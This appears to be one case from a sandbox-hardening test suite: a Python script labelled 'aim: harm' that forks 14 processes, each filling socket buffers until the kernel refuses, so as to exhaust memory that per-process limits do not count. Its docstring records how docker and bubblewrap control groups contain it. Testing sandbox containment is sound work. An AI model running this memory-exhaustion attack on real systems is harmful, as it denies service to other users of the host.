"""Fills the buffers of sockets in many processes, which no limit of a single process counts.

aim: harm
ends: memory or killed or timeout_cpu or exited or not_numbers or raised
docker: the container's control group counts the kernel's memory too
bubblewrap: the control group counts the kernel's memory too; where none can be made, nothing does
"""

import contextlib
import os
import time

from tools import full_pair


def attack(x):
    children = [child for child in (fill_in_a_child() for _ in range(14)) if child]
    filled = [os.waitpid(child, 0)[1] == 0 for child in children]
    return 2 * x if all(filled) else None


def fill_in_a_child():
    child = os.fork()
    if child == 0:
        held = fill()
        time.sleep(1.0)
        os._exit(0 if held else 1)
    return child


def fill():
    """The pairs of sockets that are full: some 400 KiB each."""
    held = []
    with contextlib.suppress(OSError):
        while True:
            held.append(full_pair())
    return held
